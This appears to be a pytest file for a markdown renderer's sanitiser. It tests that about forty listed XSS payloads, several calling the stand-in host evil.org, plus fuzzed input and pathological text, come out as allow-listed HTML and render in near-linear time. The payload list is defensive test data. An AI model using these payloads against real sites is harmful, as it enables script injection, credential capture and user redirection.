"""No text can run script, restyle the page, break out of its place or bring rendering down."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lectern.shared.markdown import render
from lectern.shared.markdown.sanitize import TAGS

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.org/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<form action='//evil.org'><input name=password></form>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='modal overlay'>x</div>",
    "<base href='//evil.org/'>",
    "<meta http-equiv=refresh content='0;url=//evil.org'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "$\\text{</math><script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(//evil.org)}{x}$",
    '$x$"><script>alert(1)</script>',
    '```python"><script>alert(1)</script>\nx\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "::: note <script>alert(1)</script>\nx\n:::",
    '::: note"onmouseover=alert(1)\nx\n:::',
    "![](x.png){alt='\"><script>alert(1)</script>'}",
    "![a](https://example.org/x.png 'x\" onerror=\"alert(1)')",
    '## x {#y"onclick=alert(1)}',
    "<a href='https://example.org' target=_blank onclick=alert(1)>x</a>",
    "<details ontoggle=alert(1) open>x</details>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<img src='//evil.org/pixel.png'>",
    "[^<script>]: x\n\n[^<script>]",
]
_SAFE = """id class href src alt title rel loading role aria-label aria-labelledby tabindex alttext
    display stretchy open lang dir start width height colspan rowspan datetime mathvariant
    accent accentunder fence form lspace rspace minsize maxsize depth voffset displaystyle
    scriptlevel mathcolor columnalign rowspacing columnspacing columnlines rowlines notation
    linethickness scope"""
SAFE_ATTRIBUTES = set(_SAFE.split())


class _Inspector(HTMLParser):
    """Checks every tag against the allow-list, and that each closes where it should."""

    VOID = {"br", "hr", "img", "wbr", "mprescripts", "mspace"}

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES, name
            if name == "id":
                assert str(value).startswith("content-")
            if name in ("href", "src"):
                assert str(value).startswith(("http://", "https://", "mailto:", "#content-"))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag not in self.VOID:
            assert self.open.pop() == tag


def assert_safe(source: str) -> None:
    inspector = _Inspector()
    inspector.feed(render(source).html)
    inspector.close()
    assert inspector.open == []


@pytest.mark.parametrize("source", ATTACKS)
def test_an_attack_leaves_nothing_but_what_is_allowed(source: str) -> None:
    assert_safe(source)
    assert_safe(f"- > {source}\n\n::: solution\n{source}\n:::\n\n| {source} |\n|---|\n")


def test_ids_cannot_shadow_what_the_page_has() -> None:
    html = render('## location\n\n<p id="app">x</p>\n').html
    assert 'id="content-location"' in html
    assert 'id="content-app"' in html


def test_html_left_open_stays_inside_the_text() -> None:
    assert render("<div>\n\na <b>b\n\n</aside></main>").html.count("</div>") == 1
    assert_safe("<div>\n\na <b>b\n\n</aside></main>\n\n<table><tr><td>\n\nx")


_PIECES = r"""::: :::: challenge solution instructor ``` ~~~ $ $$ \frac{ } { {alt=' '} ![ ]( )
    [^1] [^1]: > - 1. # ## ### | |---| --- *** _ ~~ <div> </div> <!-- --> <img &amp; &#0; \ ` [x]
    <script> </script> <a href=x>"""
MARKDOWNISH = st.lists(
    st.one_of(
        st.sampled_from([*_PIECES.split(), "\x00", "\ufeff", "\t"]),
        st.sampled_from([" ", "\n", "\n\n", "    ", "\n    "]),
        st.text(max_size=8),
    ),
    max_size=60,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(MARKDOWNISH)
def test_any_text_renders_to_safe_html(source: str) -> None:
    assert_safe(source)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="$\\{}^_&abcdefghilmnopqrstx12+=<>() \n", max_size=60))
def test_any_formula_renders_to_safe_html(tex: str) -> None:
    assert_safe(f"${tex}$\n\n$$\n{tex}\n$$\n")


@pytest.mark.parametrize(
    "piece",
    [
        "::: note\n\n", ":::\n", "[", "![](a){x='", "`a``b```", "$a ", "$$x\n", "> ", "<div>",
        "<a ", "[^1] ", "*a ", "![[", "<img src=a>\n", "^[a ", "&amp", "# a\n", "[a](b){",
    ],
)  # fmt: skip
def test_time_grows_with_the_text_and_not_with_its_square(piece: str) -> None:
    """Four times the text costs about four times the work; the square would be sixteen."""

    def work(size: int) -> float:
        text = piece * (size // len(piece))
        costs = []
        for _ in range(2):
            began = time.process_time()
            render(text)
            costs.append(time.process_time() - began)
        return min(costs)

    small = max(work(25_000), 0.02)  # what is quicker than the clock's grain is quick enough
    assert work(100_000) / small < 10
